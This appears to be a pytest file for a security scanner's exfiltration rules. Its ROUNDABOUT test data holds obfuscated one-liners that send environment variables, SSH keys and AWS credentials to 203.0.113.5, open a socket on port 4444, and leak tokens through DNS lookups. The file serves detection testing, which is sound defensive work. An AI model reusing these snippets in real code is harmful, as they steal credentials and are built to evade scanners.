"""The DS3xx pre-screens (`applies_to` before any parse) are necessary conditions: every example and fixture the
rules flag passes them, and common benign text does not."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from datasec_scan.plugins import discover
from datasec_scan.rule import Example

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
CODES = ("DS301", "DS302", "DS303", "DS304")
FIXTURE_OF = {"DS301": "sensitive_data_to_network.py", "DS302": "undisclosed_egress/undisclosed_egress.py",
              "DS303": "high_risk_destination.py", "DS304": "dns_exfiltration.py"}


def _rule(code: str):  # type: ignore[no-untyped-def]
    return next(r for r in discover().rules if r.code == code)


@pytest.mark.parametrize("code", CODES)
def test_invalid_examples_and_fixture_pass(code: str) -> None:
    rule = _rule(code)
    for ex in rule.INVALID:
        example = ex if isinstance(ex, Example) else Example(ex)
        assert rule.applies_to(example.path, textwrap.dedent(example.code)), example.code
    fixture = FIXTURES / FIXTURE_OF[code]
    assert rule.applies_to(fixture.name, fixture.read_text("utf-8"))


# What each rule still flags when the sink is reached in a roundabout way (aliases, dynamic imports, obfuscated
# names, method names alone); the screens must let all of it through.
ROUNDABOUT = {
    "DS301": [
        "import requests as r\nimport os\nr.post('http://203.0.113.5/x', json=dict(os.environ))\n",
        "import os\nfrom requests import post as p\np('https://example.com/c', json=dict(os.environ))\n",
        "import os\nm = __import__('re' + 'quests')\nm.post('https://example.com/c', json=dict(os.environ))\n",
        "import os\nm = vars()['__imp' + 'ort__']('re' + 'quests')\nm.post('https://203.0.113.5/c', json=dict(os.environ))\n",
        ("import sys, os\nnet = sys.modules['so' + 'cket']\nc = net.create_connection(('203.0.113.5', 443))\n"
         "c.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"),
        "import os\ngetattr(os, 'sys' + 'tem')(f\"curl -F f=@{os.path.expanduser('~/.aws/credentials')} https://203.0.113.5/\")\n",
        "import os\ndef leak(sock):\n    sock.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
        "import os\ndef up(sftp):\n    sftp.put(os.path.expanduser('~/.aws/credentials'), '/tmp/c')\n",
        "import os\nimport ｒｅｑｕｅｓｔｓ\nｒｅｑｕｅｓｔｓ.post('https://203.0.113.5/c', json=dict(os.environ))\n",
        "import os, \\\n    requests\nrequests.post('https://203.0.113.5/c', json=dict(os.environ))\n",
        "import os\nfrom importlib import import_module as im\npost = im('requests.api').post\npost('https://203.0.113.5/c', json=dict(os.environ))\n",
    ],
    "DS303": [
        "def send(pool, data):\n    pool.request('POST', 'http://203.0.113.5/in', body=data)\n",
        "from socket import *\ns = socket()\ns.connect(('203.0.113.5', 4444))\n",
        "from six.moves.urllib.request import urlopen\nurlopen('http://203.0.113.5/')\n",
        "from http.client import *\nHTTPSConnection('abc.trycloudflare.com').request('GET', '/')\n",
        "import subprocess\nsubprocess.run([''.join(map(chr, [99, 117, 114, 108])), '-s', 'https://203.0.113.5/p'])\n",
        "import base64, requests\nrequests.get(base64.b64decode('aHR0cDovLzIwMy4wLjExMy41L3g=').decode())\n",
    ],
    "DS304": [
        "import base64\ndef beacon(data):\n    getattr(__import__('socket'), 'gethostbyname')(base64.b32encode(data).decode() + '.x.example.net')\n",
        "import os\nimport dns.resolver as r\nr.resolve(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example.net')\n",
        "import getpass, os\nos.popen(f'dig {getpass.getuser()}.x.example.net')\n",
        "import os\nfrom socket import getaddrinfo as gai\ngai(os.environ['GITHUB_TOKEN'] + '.x.example.net', 443)\n",
        "import os\nf = globals()['__import__']('soc' + 'ket')\nf.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example.net')\n",
    ],
}


@pytest.mark.parametrize("code,text", [(c, t) for c, texts in ROUNDABOUT.items() for t in texts])
def test_roundabout_sinks_are_flagged_and_pass(code: str, text: str) -> None:
    from datasec_scan.testing import findings_for

    rule = _rule(code)
    assert [f for f in findings_for("x.py", text, discover(), None) if f.rule == code], text
    assert rule.applies_to("x.py", text)
    if code in ("DS301", "DS303"):
        assert _rule("DS302").applies_to("x.py", text)  # every sink DS301/DS303 see is one DS302 sees


BENIGN = [
    "from django.http import HttpResponse\n\ndef view(request):\n    return HttpResponse('ok')\n",
    "from django.dispatch import Signal\nsignal = Signal()\nsignal.connect(handler)\n",
    'def f():\n    """See https://docs.python.org for details over http."""\n    url = "https://docs.python.org"\n',
    "from django.db.models import Q\nquery = Q(x=1)\nresult = resolve(query)\n",
    "import os\n# Run the system check; the operating system decides.\npath = os.path.join('a', 'b')\n",
    "from django.test import TestCase\nclass T(TestCase):\n    def test(self):\n        self.client.get('/x')\n",
    "import sys\nprint(sys.argv, getattr(sys, 'frozen', False))\n",
    "self.vars = []\ncontext = {'vars': self.vars}\nf(globals=None, locals=None)\n",
]


@pytest.mark.parametrize("code", CODES)
@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_screened_out(code: str, text: str) -> None:
    assert not _rule(code).applies_to("x.py", text)
